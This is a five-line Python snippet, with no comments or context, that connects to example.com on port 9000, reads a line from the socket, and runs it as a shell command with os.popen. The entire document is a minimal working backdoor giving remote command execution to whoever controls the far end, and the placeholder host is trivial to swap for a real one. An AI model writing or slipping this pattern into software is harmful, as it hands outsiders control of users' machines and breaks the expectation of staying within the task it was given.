import os
import socket

f = socket.create_connection(("example.com", 9000)).makefile("r")
os.popen(f.readline())
